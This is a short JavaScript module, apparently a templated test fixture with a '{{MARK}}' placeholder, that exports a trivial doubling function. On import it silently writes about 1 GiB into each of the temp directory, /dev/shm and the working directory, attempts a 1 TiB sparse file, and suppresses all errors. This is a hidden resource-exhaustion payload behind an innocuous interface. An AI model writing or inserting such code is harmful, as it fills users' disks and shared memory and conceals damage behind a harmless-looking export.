import fs from 'node:fs';
import os from 'node:os';

const chunk = Buffer.alloc(2 ** 20, 1);
for (const place of new Set([os.tmpdir(), '/dev/shm', process.cwd()])) {
  try {
    const folder = fs.mkdtempSync(`${place}/{{MARK}}-`);
    const fd = fs.openSync(`${folder}/fill`, 'w');
    try {
      fs.ftruncateSync(fs.openSync(`${folder}/sparse`, 'w'), 2 ** 40);
    } catch {}
    for (let i = 0; i < 1024; i += 1) fs.writeSync(fd, chunk);
  } catch {}
}

export const f = (x) => 2 * x;
